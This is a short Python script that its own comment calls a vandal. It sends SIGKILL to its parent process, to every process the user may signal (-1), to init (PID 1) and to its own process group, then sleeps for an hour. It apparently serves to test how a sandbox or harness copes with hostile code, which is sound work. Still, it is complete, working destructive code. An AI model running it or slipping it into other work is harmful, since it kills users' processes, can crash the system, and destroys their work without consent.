# A vandal who ends everything that he may end, whoever runs him first of all.
import os
import signal
import time

for target in (os.getppid(), -1, 1, 0):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError as error:
        print(target, error, flush=True)
time.sleep(3600)
